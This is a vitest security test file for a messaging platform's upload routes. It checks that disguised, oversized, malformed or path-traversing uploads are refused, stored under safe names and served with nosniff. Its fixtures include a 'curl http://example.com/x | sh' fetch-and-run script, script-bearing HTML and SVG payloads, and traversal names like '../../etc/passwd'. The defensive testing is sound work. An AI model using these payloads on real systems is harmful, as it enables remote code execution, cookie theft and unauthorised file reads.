import { mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import * as XLSX from "xlsx";
import { isErrorCode } from "@conversa/shared";
import { buildTestApp } from "../../test/build-test-app.ts";
import { eventually } from "../../test/engine-harness.ts";
import { bearer, createUser, loginAs } from "../../test/factories.ts";
import { announcements, companyStorage, connections, messages, plans, rateLimits } from "../db/schema/index.ts";
import { INSTALLATION_MEDIA, MEDIA_LIMITS } from "../media/media-store.ts";
import { PNG } from "../modules/queues/upload-fixtures.ts";
import type { RouteEntry } from "../plugins/route-table.ts";
import { type UploadSpec, uploadFileFields } from "../media/uploads.ts";
import { snapshotCompany } from "./company-snapshot.ts";
import { type TenantIds, buildRequest } from "./route-requests.ts";
import { type SeededTenant, idsOf, seedTenant } from "./seed-tenant.ts";

// The media store and anything written to the temp directory go to folders of this file alone, so
// that a file left behind is seen (other test files share the system's temp directory).
const dataDir = mkdtempSync(path.join(os.tmpdir(), "conversa-uploads-"));
const tempDir = mkdtempSync(path.join(os.tmpdir(), "conversa-uploads-tmp-"));
const systemTemp = process.env.TMPDIR;
process.env.TMPDIR = tempDir;

const t = await buildTestApp({ dataDir });
const mediaRoot = path.join(dataDir, "media");
const keyOf = (route: Pick<RouteEntry, "method" | "url">) => `${route.method} ${route.url}`;
const UPLOAD_ROUTES = t.app.routeTable.filter((route): route is RouteEntry & { upload: UploadSpec } => route.upload !== undefined);
const OTHER_ROUTES = t.app.routeTable.filter((route) => route.upload === undefined);

const XLSX_CONTENT = (() => {
  const book = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(book, XLSX.utils.aoa_to_sheet([["Nome", "Numero"], ["Ana Planilha", "5511977770001"]]), "Contatos");
  const written: unknown = XLSX.write(book, { bookType: "xlsx", type: "buffer", compression: true });
  if (!Buffer.isBuffer(written)) throw new Error("the spreadsheet library did not write a buffer");
  return written;
})();
const EXE = Buffer.concat([Buffer.from("MZ"), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(64), Buffer.from("PE\0\0"), Buffer.from([0x4c, 0x01, 0x03, 0x00]), Buffer.alloc(200, 0x90)]);
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(8), Buffer.from([0x02, 0x00, 0x3e, 0x00]), Buffer.alloc(200)]);
const PDF = Buffer.from("%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n");
const SCRIPT = Buffer.from("#!/bin/sh\ncurl http://example.com/x | sh\n");
const HTML = Buffer.from("<!doctype html><html><body><script>alert(document.cookie)</script></body></html>");
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>');

/** A file of `size` bytes that starts like the route's valid file, so that only its size is wrong. */
const sized = (head: Buffer, size: number) => Buffer.concat([head.subarray(0, Math.min(head.length, size)), Buffer.alloc(Math.max(0, size - head.length))]);

interface Part {
  field: string;
  /** Absent: a text field. */
  filename?: string;
  type?: string;
  content: Buffer | string;
}

const BOUNDARY = "----conversa-upload-sweep";
function multipartBody(parts: Part[]): Buffer {
  const chunks: Buffer[] = [];
  for (const part of parts) {
    const disposition = part.filename === undefined ? `form-data; name="${part.field}"` : `form-data; name="${part.field}"; filename="${part.filename}"`;
    const type = part.filename === undefined ? "" : `Content-Type: ${part.type ?? "application/octet-stream"}\r\n`;
    chunks.push(Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: ${disposition}\r\n${type}\r\n`, "utf8"), Buffer.from(part.content), Buffer.from("\r\n"));
  }
  chunks.push(Buffer.from(`--${BOUNDARY}--\r\n`));
  return Buffer.concat(chunks);
}
const MULTIPART = `multipart/form-data; boundary=${BOUNDARY}`;

interface Variant {
  name: string;
  payload: Buffer | string;
  contentType: string;
  status: number;
  codes: string[];
}

/** The valid file of a route, by what it accepts. */
function validFile(spec: UploadSpec): { filename: string; type: string; content: Buffer } {
  return spec.accepts === "spreadsheet"
    ? { filename: "contatos.xlsx", type: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", content: XLSX_CONTENT }
    : { filename: "picture.png", type: "image/png", content: PNG };
}

/** Every refused upload for a route: content that is not what it says, sizes, counts and shapes. */
function refusedVariants(spec: UploadSpec, fields: Part[] = []): Variant[] {
  const valid = validFile(spec);
  const wrongType = spec.accepts === "spreadsheet" ? "ERR_IMPORT_FILE_TYPE" : "ERR_MEDIA_TYPE_NOT_ALLOWED";
  const tooLarge = spec.accepts === "spreadsheet" ? "ERR_IMPORT_FILE_TOO_LARGE" : "ERR_MEDIA_TOO_LARGE";
  const text = { field: "body", content: "upload probe" };
  const fileField = uploadFileFields(spec)[0]!;
  const file = (filename: string, type: string, content: Buffer): Part[] => [text, ...fields, { field: fileField, filename, type, content }];
  const variants: Variant[] = [];
  const add = (name: string, parts: Part[], status: number, codes: string[]) => variants.push({ name, payload: multipartBody(parts), contentType: MULTIPART, status, codes });

  add("text named and declared as PNG", file("photo.png", "image/png", Buffer.from("just some words, not a picture\n")), 400, [wrongType]);
  add("a Windows executable named photo.jpg, image/jpeg", file("photo.jpg", "image/jpeg", EXE), 400, [wrongType]);
  add("a Windows executable under the route's own file name", file(valid.filename, valid.type, EXE), 400, [wrongType]);
  add("an ELF binary named .png", file("image.png", "image/png", ELF), 400, [wrongType]);
  add("a shell script named .mp3", file("song.mp3", "audio/mpeg", SCRIPT), 400, [wrongType]);
  add("an HTML page with a script named .png", file("page.png", "image/png", HTML), 400, [wrongType]);
  add("an SVG with a script named .png", file("logo.png", "image/png", SVG), 400, [wrongType]);
  if (spec.accepts !== "media") add("a PDF where only images or spreadsheets are taken", file("doc.pdf", "application/pdf", PDF), 400, [wrongType]);
  add("one byte over the route's limit", file(valid.filename, valid.type, sized(valid.content, spec.maxBytes + 1)), 413, [tooLarge]);
  if (spec.accepts === "media" && spec.maxBytes > MEDIA_LIMITS.image) {
    add("an image one byte over the limit of images", file("big.png", "image/png", sized(PNG, MEDIA_LIMITS.image + 1)), 413, ["ERR_MEDIA_TOO_LARGE"]);
  }
  add("a zero-byte file", file(valid.filename, valid.type, Buffer.alloc(0)), 400, ["ERR_VALIDATION"]);
  add(
    `${spec.maxFiles + 1} files where ${spec.maxFiles} are allowed`,
    [text, ...fields, ...Array.from({ length: spec.maxFiles + 1 }, (_, i) => ({ field: fileField, filename: `f${i}${path.extname(valid.filename)}`, type: valid.type, content: valid.content }))],
    400,
    ["ERR_VALIDATION"],
  );
  add("a text field where the file should be", [text, ...fields, { field: fileField, content: valid.content.toString("base64") }], 400, ["ERR_VALIDATION"]);
  add("the file in another field", [text, ...fields, { field: "document", filename: valid.filename, type: valid.type, content: valid.content }], 400, ["ERR_VALIDATION"]);
  add("no file at all", [text, ...fields], 400, ["ERR_VALIDATION"]);
  variants.push({ name: "JSON instead of multipart", payload: JSON.stringify({ [fileField]: valid.content.toString("base64") }), contentType: "application/json", status: 400, codes: ["ERR_VALIDATION"] });
  const whole = multipartBody(file(valid.filename, valid.type, valid.content));
  variants.push({ name: "a multipart body cut off in the file", payload: whole.subarray(0, whole.length - 40), contentType: MULTIPART, status: 400, codes: ["ERR_VALIDATION"] });
  variants.push({ name: "a multipart body with another boundary", payload: whole, contentType: "multipart/form-data; boundary=not-the-one", status: 400, codes: ["ERR_VALIDATION"] });
  return variants;
}

/**
 * Upload routes of the installation's administration (an announcement's picture): sent by a super user,
 * stored in the installation's folder (never a company's) and served from a path of their own.
 */
const INSTALLATION_UPLOADS: Record<string, { servedFrom: string }> = {
  "POST /announcements/:id/media-upload": { servedFrom: "/media/announcements/" },
};

/**
 * Upload routes authenticated by a connection's token instead of a session (the external API): sent with the
 * tenant's connection token, with the text fields they require beside the files. Their answer names the
 * stored message, whose record names the file.
 */
const API_TOKEN = "uploads-api-token-0123456789abcdef";
const TOKEN_UPLOAD_FIELDS: Record<string, Part[]> = {
  "POST /api/messages/send": [{ field: "number", content: "5511900002222" }],
};

/** File names that try to leave the company's folder or break the name; the content is valid. */
const HOSTILE_NAMES: Record<string, string> = {
  "../../etc/passwd": "../../etc/passwd",
  "..\\..\\win.ini": "..\\..\\win.ini",
  "an absolute path": "/etc/passwd",
  "a Windows absolute path": "C:\\Windows\\win.ini",
  "a NUL character": "a\u0000b",
  "1,000 characters": "n".repeat(1000),
  unicode: "фото 😀 صورة e\u0301",
};

/**
 * Files left in the temp directory. The compile cache of the TypeScript loader (`tsx-*`, written when
 * the spreadsheet reader's thread starts from source under test) is not the server's.
 */
const tempFiles = () => tree(tempDir).filter((entry) => !entry.startsWith("tsx-"));

/** Every file under a folder, with its size, as paths relative to it. */
function tree(dir: string): string[] {
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => {
      const full = path.join(entry.parentPath, entry.name);
      return `${path.relative(dir, full)} ${readFileSync(full).length}`;
    })
    .sort();
}

let tenant: SeededTenant;
let ids: TenantIds;
/** A second admin of the tenant: the sweep of the other routes must not end the session the upload sweeps use. */
let otherAdminToken: string;
/** A super user of the tenant, who sends the installation's uploads, and the announcement they go to. */
let superToken: string;
let announcementId: number;
const figures = { routes: 0, refused: 0, accepted: 0, served: 0, undeclared: 0, overQuota: 0 };
const statuses: Record<string, number> = {};

/** The file of the message an external API send answered with. */
async function storedFileOfAnswer(answer: { messageId?: number }): Promise<string | undefined> {
  if (typeof answer.messageId !== "number") return undefined;
  const [row] = await t.db.select({ mediaUrl: messages.mediaUrl }).from(messages).where(eq(messages.id, answer.messageId));
  return row?.mediaUrl ?? undefined;
}

function errorOf(body: string): { error?: unknown; message?: unknown } {
  try {
    const value: unknown = JSON.parse(body);
    return typeof value === "object" && value !== null ? value : {};
  } catch {
    return {};
  }
}

function urlOf(route: RouteEntry): string {
  const built = buildRequest(route, ids, ids, undefined, { user: tenant.admin.id });
  built.url = built.url.replace(/^\/announcements\/\d+/, `/announcements/${announcementId}`);
  const query = new URLSearchParams(built.query).toString();
  return query ? `${built.url}?${query}` : built.url;
}

/** Starts the tenant's simulator connection and pairs it, so that messages are sent and the simulator's customer can write. */
async function connectSimulator(): Promise<void> {
  const connection = tenant.connection;
  await t.platform.channels.start(tenant.company.id, connection.id);
  const listed = async () => {
    const list: { id: number; status: string; qrcode: string | null }[] = (await t.app.inject({ method: "GET", url: "/simulator/connections", headers: bearer(tenant.adminToken) })).json();
    return list.find((entry) => entry.id === connection.id);
  };
  const qrcode = (await eventually(listed, (entry) => Boolean(entry?.qrcode)))?.qrcode;
  const scan = await t.app.inject({ method: "POST", url: `/simulator/connections/${connection.id}/scan`, headers: bearer(tenant.adminToken), payload: { qrcode, number: "5511900001111" } });
  expect(scan.statusCode).toBe(200);
  await eventually(listed, (entry) => entry?.status === "CONNECTED");
}

const defaultTokenOf = (route: RouteEntry) => (INSTALLATION_UPLOADS[keyOf(route)] ? superToken : route.isTokenAuthenticated ? API_TOKEN : tenant.adminToken);

async function send(route: RouteEntry, payload: Buffer | string, contentType: string, token: string | undefined = defaultTokenOf(route)) {
  // The external API counts sends per token: each request of the sweep starts the count again.
  if (route.isTokenAuthenticated) await t.db.delete(rateLimits);
  return t.app.inject({ method: route.method as "POST", url: urlOf(route), payload, headers: { ...(token ? bearer(token) : {}), "content-type": contentType } });
}

beforeAll(async () => {
  await t.platform.jobs.start();
  tenant = await seedTenant(t.app, t.db, t.platform.media, "UPLOADS", 1);
  ids = idsOf(tenant);
  const otherAdmin = await createUser(t.db, { companyId: tenant.company.id, profile: "admin", email: "uploads-second-admin@example.com" });
  otherAdminToken = (await loginAs(t.app, otherAdmin.email)).token;
  const superUser = await createUser(t.db, { companyId: tenant.company.id, profile: "admin", isSuper: true, email: "uploads-super@example.com" });
  superToken = (await loginAs(t.app, superUser.email)).token;
  const [announcement] = await t.db.insert(announcements).values({ title: "Upload sweep", text: "picture target" }).returning({ id: announcements.id });
  announcementId = announcement!.id;
  await t.db.update(connections).set({ token: API_TOKEN }).where(eq(connections.id, tenant.connection.id));
}, 60_000);

afterAll(async () => {
  console.log(
    `uploads: ${figures.routes} upload routes, ${figures.refused} refused uploads (${Object.entries(statuses)
      .map(([key, n]) => `${n} × ${key}`)
      .join(", ")}), ${figures.overQuota} uploads refused at the storage quota, ${figures.accepted} hostile file names accepted under server-chosen names, ${figures.served} served back with nosniff, ${figures.undeclared} routes without an upload refusing multipart`,
  );
  await t.platform.jobs.stop();
  await t.close();
  if (systemTemp === undefined) delete process.env.TMPDIR;
  else process.env.TMPDIR = systemTemp;
  rmSync(dataDir, { recursive: true, force: true });
  rmSync(tempDir, { recursive: true, force: true });
});

describe("the routes that take uploads", () => {
  it("are found in the route table, each declaring what it accepts", () => {
    expect(UPLOAD_ROUTES.length).toBeGreaterThan(0);
    for (const route of UPLOAD_ROUTES) {
      expect(route.isAuthenticated || route.isTokenAuthenticated).toBe(true);
      expect(route.upload.maxBytes).toBeGreaterThan(0);
    }
  });

  it("are the only ones that read multipart: no other server file calls the multipart reader", () => {
    const src = path.resolve(path.dirname(fileURLToPath(import.meta.url)), "..");
    const readers = readdirSync(src, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile() && entry.name.endsWith(".ts") && !entry.name.endsWith(".test.ts"))
      .map((entry) => path.join(entry.parentPath, entry.name))
      .filter((file) => /\.(parts|file|files|saveRequestFiles)\(/.test(readFileSync(file, "utf8")))
      .map((file) => path.relative(src, file));
    expect(readers).toEqual([path.join("media", "uploads.ts")]);
  });

  it.each(OTHER_ROUTES.map(keyOf))("%s, which declares no upload, refuses a multipart file with 400 and stores nothing", async (key) => {
    const route = OTHER_ROUTES.find((entry) => keyOf(entry) === key)!;
    const before = tree(dataDir);
    const payload = multipartBody([
      { field: "file", filename: "picture.png", type: "image/png", content: PNG },
      { field: "medias", filename: "picture.png", type: "image/png", content: PNG },
    ]);
    const response = await send(route, payload, MULTIPART, route.isAuthenticated ? otherAdminToken : undefined);
    figures.undeclared += 1;
    expect({ status: response.statusCode, error: errorOf(response.body).error }).toEqual({ status: 400, error: "ERR_VALIDATION" });
    expect(tree(dataDir)).toEqual(before);
  });
});

describe("refused uploads, sent by a company admin to every upload route", () => {
  let rowsBefore: Record<string, string>;
  beforeAll(async () => {
    rowsBefore = await snapshotCompany(t.db, tenant.company.id);
  });

  it.each(UPLOAD_ROUTES.map(keyOf))("%s refuses each with its code and writes nothing to disk", async (key) => {
    const route = UPLOAD_ROUTES.find((entry) => keyOf(entry) === key)!;
    figures.routes += 1;
    const problems: string[] = [];
    for (const variant of refusedVariants(route.upload, TOKEN_UPLOAD_FIELDS[key])) {
      const before = tree(dataDir);
      const response = await send(route, variant.payload, variant.contentType);
      figures.refused += 1;
      const body = errorOf(response.body);
      const label = `${response.statusCode} ${String(body.error)}`;
      statuses[label] = (statuses[label] ?? 0) + 1;
      if (response.statusCode !== variant.status || !variant.codes.includes(String(body.error)) || typeof body.message !== "string" || !isErrorCode(body.error)) {
        problems.push(`${variant.name}: expected ${variant.status} ${variant.codes.join("|")}, got ${response.statusCode} ${response.body.slice(0, 200)}`);
      }
      const after = tree(dataDir);
      if (JSON.stringify(after) !== JSON.stringify(before)) problems.push(`${variant.name}: files changed: ${JSON.stringify(after.filter((f) => !before.includes(f)))}`);
      const temp = tempFiles();
      if (temp.length > 0) problems.push(`${variant.name}: temp files left: ${JSON.stringify(temp)}`);
    }
    expect(problems).toEqual([]);
  }, 180_000);

  it("leaves every row of the company unchanged", async () => {
    expect(await snapshotCompany(t.db, tenant.company.id)).toEqual(rowsBefore);
  });
});

describe("uploads by a company at its storage quota", () => {
  const MIB = 1024 * 1024;
  /** Routes whose files are not the company's media: an import reads a spreadsheet and keeps no file. */
  const STORES_COMPANY_MEDIA = UPLOAD_ROUTES.filter((route) => route.upload.accepts !== "spreadsheet" && !INSTALLATION_UPLOADS[keyOf(route)]);
  let quotaBefore: number;
  let usedBefore: number;
  let rowsBefore: Record<string, string>;
  const usedBytes = async () => (await t.db.select({ usedBytes: companyStorage.usedBytes }).from(companyStorage).where(eq(companyStorage.companyId, tenant.company.id)))[0]?.usedBytes;

  beforeAll(async () => {
    const [plan] = await t.db.select({ quota: plans.storageQuotaMb }).from(plans).where(eq(plans.id, tenant.company.plan.id));
    quotaBefore = plan!.quota;
    usedBefore = (await usedBytes())!;
    await t.db.update(plans).set({ storageQuotaMb: 1 }).where(eq(plans.id, tenant.company.plan.id));
    await t.db.update(companyStorage).set({ usedBytes: MIB }).where(eq(companyStorage.companyId, tenant.company.id));
    rowsBefore = await snapshotCompany(t.db, tenant.company.id);
  });
  afterAll(async () => {
    await t.db.update(plans).set({ storageQuotaMb: quotaBefore }).where(eq(plans.id, tenant.company.plan.id));
    await t.db.update(companyStorage).set({ usedBytes: usedBefore }).where(eq(companyStorage.companyId, tenant.company.id));
  });

  it("include every upload route but the installation's and the spreadsheet imports", () => {
    expect(STORES_COMPANY_MEDIA.length).toBe(UPLOAD_ROUTES.length - Object.keys(INSTALLATION_UPLOADS).length - UPLOAD_ROUTES.filter((route) => route.upload.accepts === "spreadsheet").length);
    expect(STORES_COMPANY_MEDIA.length).toBeGreaterThan(0);
  });

  it.each(STORES_COMPANY_MEDIA.map(keyOf))("%s refuses a valid file with 413 ERR_STORAGE_QUOTA and its figures, writing nothing", async (key) => {
    const route = STORES_COMPANY_MEDIA.find((entry) => keyOf(entry) === key)!;
    const valid = validFile(route.upload);
    const before = tree(dataDir);
    const payload = multipartBody([{ field: "body", content: "upload probe" }, ...(TOKEN_UPLOAD_FIELDS[key] ?? []), { field: uploadFileFields(route.upload)[0]!, filename: valid.filename, type: valid.type, content: valid.content }]);
    const response = await send(route, payload, MULTIPART);
    figures.overQuota += 1;
    expect({ status: response.statusCode, body: response.json() }).toMatchObject({ status: 413, body: { error: "ERR_STORAGE_QUOTA", details: { usedBytes: MIB, quotaBytes: MIB } } });
    expect(tree(dataDir)).toEqual(before);
    expect(tempFiles()).toEqual([]);
    expect(await usedBytes()).toBe(MIB);
  });

  it("leaves every row of the company unchanged", async () => {
    expect(await snapshotCompany(t.db, tenant.company.id)).toEqual(rowsBefore);
  });

  it.each(Object.keys(INSTALLATION_UPLOADS))("%s, the installation's, is not held to a company's quota", async (key) => {
    const route = UPLOAD_ROUTES.find((entry) => keyOf(entry) === key)!;
    const valid = validFile(route.upload);
    const response = await send(route, multipartBody([{ field: uploadFileFields(route.upload)[0]!, filename: valid.filename, type: valid.type, content: valid.content }]), MULTIPART);
    expect(response.statusCode, response.body).toBe(200);
    expect(await usedBytes()).toBe(MIB);
  });
});

describe("hostile file names with valid content", () => {
  beforeAll(connectSimulator);

  it.each(UPLOAD_ROUTES.map(keyOf))("%s stores the file under a name of its own, in the company's (or the installation's) folder, and serves it with nosniff", async (key) => {
    const route = UPLOAD_ROUTES.find((entry) => keyOf(entry) === key)!;
    const valid = validFile(route.upload);
    const installation = INSTALLATION_UPLOADS[key];
    const companyDir = path.join(mediaRoot, installation ? INSTALLATION_MEDIA : String(tenant.company.id));
    const servedFrom = installation?.servedFrom ?? "/media/";
    const problems: string[] = [];
    for (const [name, hostile] of Object.entries(HOSTILE_NAMES)) {
      const filename = route.upload.accepts === "spreadsheet" ? `${hostile}.xlsx` : hostile;
      const before = tree(dataDir);
      const payload = multipartBody([
        { field: "body", content: "upload probe" },
        ...(TOKEN_UPLOAD_FIELDS[key] ?? []),
        { field: uploadFileFields(route.upload)[0]!, filename, type: valid.type, content: valid.content },
      ]);
      const response = await send(route, payload, MULTIPART);
      if (response.statusCode !== 200) {
        problems.push(`${name}: answered ${response.statusCode} ${response.body.slice(0, 200)}`);
        continue;
      }
      figures.accepted += 1;
      if (/\.\.[/\\]|\/etc\/|[A-Za-z]:\\|\\u0000/.test(response.body)) problems.push(`${name}: the answer carries a path: ${response.body.slice(0, 300)}`);
      const added = tree(dataDir).filter((entry) => !before.includes(entry));
      for (const entry of added) {
        const [file] = entry.split(" ");
        const relative = path.relative(companyDir, path.join(dataDir, file!));
        if (!/^[0-9a-f]{32}\.png$/.test(relative)) problems.push(`${name}: stored as ${file}`);
      }
      if (route.upload.accepts === "spreadsheet") {
        if (added.length > 0) problems.push(`${name}: an import stored files: ${JSON.stringify(added)}`);
        continue;
      }
      if (added.length !== 1) problems.push(`${name}: expected one stored file, found ${JSON.stringify(added)}`);
      for (const entry of added) {
        const fileName = path.basename(entry.split(" ")[0]!);
        const named = route.isTokenAuthenticated ? await storedFileOfAnswer(response.json()) : response.body.includes(fileName) ? fileName : undefined;
        if (named !== fileName) problems.push(`${name}: the answer does not name the stored file ${fileName}`);
        const served = await t.app.inject({ method: "GET", url: `${servedFrom}${fileName}`, headers: bearer(tenant.adminToken) });
        figures.served += 1;
        if (served.statusCode !== 200) problems.push(`${name}: GET ${servedFrom}${fileName} answered ${served.statusCode}`);
        if (served.headers["content-type"] !== "image/png") problems.push(`${name}: served as ${String(served.headers["content-type"])}`);
        if (served.headers["x-content-type-options"] !== "nosniff") problems.push(`${name}: served without nosniff`);
        if (!served.rawPayload.equals(valid.content)) problems.push(`${name}: served other bytes`);
      }
      const temp = tempFiles();
      if (temp.length > 0) problems.push(`${name}: temp files left: ${JSON.stringify(temp)}`);
    }
    expect(problems).toEqual([]);
  }, 120_000);

  it("keeps the display name of a message's file without its path", async () => {
    const rows = await t.db.select({ mediaName: messages.mediaName }).from(messages).where(eq(messages.companyId, tenant.company.id));
    const names = rows.map((row) => row.mediaName).filter((name): name is string => name !== null);
    expect(names).toEqual(expect.arrayContaining(["passwd", "win.ini", "ab", HOSTILE_NAMES.unicode]));
    for (const name of names) expect([...name].filter((c) => c === "/" || c === "\\" || c === "\u0000")).toEqual([]);
  });
});

describe("media a customer sends through the simulator", () => {
  it("is not stored when its content is not what it says: the message arrives without the file", async () => {
    const connection = tenant.connection;
    const before = tree(dataDir);
    const sent = [
      { wid: "SWEEP-EXE", kind: "image", media: { data: EXE.toString("base64"), mimetype: "image/jpeg", filename: "photo.jpg" } },
      { wid: "SWEEP-SCRIPT", kind: "audio", media: { data: SCRIPT.toString("base64"), mimetype: "audio/mpeg", filename: "song.mp3" } },
      { wid: "SWEEP-SVG", kind: "image", media: { data: SVG.toString("base64"), mimetype: "image/png", filename: "logo.png" } },
    ];
    for (const message of sent) {
      const response = await t.app.inject({ method: "POST", url: `/simulator/connections/${connection.id}/messages`, headers: bearer(tenant.adminToken), payload: { from: "5511955554444", ...message } });
      expect(response.statusCode).toBe(201);
    }
    const stored = await eventually(
      () => t.db.select({ wid: messages.wid, mediaUrl: messages.mediaUrl }).from(messages).where(eq(messages.companyId, tenant.company.id)),
      (rows) => sent.every((message) => rows.some((row) => row.wid === message.wid)),
    );
    expect(stored.filter((row) => (row.wid ?? "").startsWith("SWEEP-")).map((row) => row.mediaUrl)).toEqual([null, null, null]);
    expect(tree(dataDir)).toEqual(before);
  });

  it("keeps a valid picture under a name of its own, and refuses a file name with a path", async () => {
    const send = (wid: string, filename: string) =>
      t.app.inject({
        method: "POST",
        url: `/simulator/connections/${tenant.connection.id}/messages`,
        headers: bearer(tenant.adminToken),
        payload: { from: "5511955554444", wid, kind: "image", media: { data: PNG.toString("base64"), mimetype: "image/png", filename } },
      });
    const withPath = await send("SWEEP-PATH", "../../etc/passwd");
    expect(withPath.statusCode).toBe(400);
    expect(withPath.json()).toMatchObject({ error: "ERR_VALIDATION" });
    const response = await send("SWEEP-PNG", "photo.jpg");
    expect(response.statusCode).toBe(201);
    const [row] = await eventually(
      () => t.db.select({ mediaUrl: messages.mediaUrl }).from(messages).where(eq(messages.wid, "SWEEP-PNG")),
      (rows) => rows.length === 1,
    );
    expect(row?.mediaUrl).toMatch(/^[0-9a-f]{32}\.png$/);
  });
});
